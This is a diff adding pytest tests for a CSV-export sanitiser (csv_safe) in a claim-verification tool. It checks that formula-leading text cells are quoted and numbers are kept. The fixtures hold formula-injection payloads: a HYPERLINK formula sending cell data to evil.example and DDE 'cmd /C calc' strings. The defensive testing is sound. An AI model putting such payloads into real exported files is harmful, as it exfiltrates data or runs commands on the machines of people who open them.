@@ -7,7 +7,9 @@ import json
 import pytest
 
 from verifier import InputError, Settings, Statement
-from verifier.batch import BadItem, ClaimItem, claims_format, csv_header, csv_row, extra_columns, read_claims, record, to_csv
+from verifier.batch import (
+    BadItem, ClaimItem, claims_format, csv_header, csv_row, csv_safe, extra_columns, read_claims, record, to_csv,
+)
 from verifier.results import Evidence, Reason, Result, Stance, Verdict
 
 
@@ -147,3 +149,41 @@ def test_to_csv_round_trips_claims_with_commas_quotes_and_newlines():
     assert [r["claim"] for r in rows] == ["Plain, with a comma", nasty]
     assert rows[0]["note"] == 'quote " and\r\nCRLF' and rows[1]["error"].startswith("claim is 2000")
     assert list(rows[0])[: len(csv_header([]))] == csv_header([])
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_safe_quotes_text_a_spreadsheet_would_run_as_a_formula_and_leaves_numbers(start):
+    assert csv_safe(start + "1+2") == "'" + start + "1+2"
+    assert csv_safe("-3") == "'-3" and csv_safe(-3) == -3 and csv_safe(-0.5) == -0.5
+    assert csv_safe("a=1") == "a=1" and csv_safe("'=1") == "'=1" and csv_safe("") == "" and csv_safe(None) is None
+
+
+def formula_records():
+    statement = Statement(EVIL, id="@s1", source="+cmd|' /C calc'!A0", url="-2+3+cmd|' /C calc'!A0", date="2021-07-05")
+    evidence = Evidence(statement, 1, -0.25, 0.88, Stance.SUPPORTS, 0.8)
+    result = Result(EVIL, Verdict.SUPPORTED, 0.8, (Reason("=1+1", "@s1", "+x"),), (evidence,), "=id")
+    good = record(ClaimItem("=id", 2, EVIL, "=id", {"note": "@SUM(1)", EVIL: "\tx", "n": -3, "t": "-3"}), result)
+    bad = record(BadItem("-7", 3, "claim is 2000 characters long", "\r" + EVIL, "-7", {"note": "fine"}))
+    return good, bad
+
+
+def test_every_text_cell_of_a_csv_row_and_header_is_safe_and_numbers_stay_numbers():
+    good, bad = formula_records()
+    row = csv_row(good)
+    assert row["claim"] == "'" + EVIL and row["id"] == "'=id" and row["reasons"] == "'=1+1"
+    assert (row["top_statement"], row["top_statement_id"]) == ("'" + EVIL, "'@s1")
+    assert row["top_source"] == "'+cmd|' /C calc'!A0" and row["top_url"] == "'-2+3+cmd|' /C calc'!A0"
+    assert row["note"] == "'@SUM(1)" and row["'" + EVIL] == "'\tx" and row["t"] == "'-3"
+    assert row["n"] == -3 and row["top_score"] == -0.25 and row["confidence"] == 0.8 and row["line"] == 2
+    assert csv_row(bad)["claim"] == "'\r" + EVIL and csv_row(bad)["id"] == "'-7"
+    assert csv_header([EVIL, "-x"])[-2:] == ["'" + EVIL, "'-x"]
+    # The web page's download: the same cells, header included.
+    rows = list(csv.reader(io.StringIO(to_csv([good, bad]), newline="")))
+    cells = [cell for r in rows for cell in r]
+    numbers = {"-0.25", "-3"}  # the score, and a number the JSONL input gave: a number, never a formula
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and c not in numbers]
+    # JSONL records stay verbatim.
+    assert good["claim"] == EVIL and good["extra"]["note"] == "@SUM(1)" and bad["claim"] == "\r" + EVIL
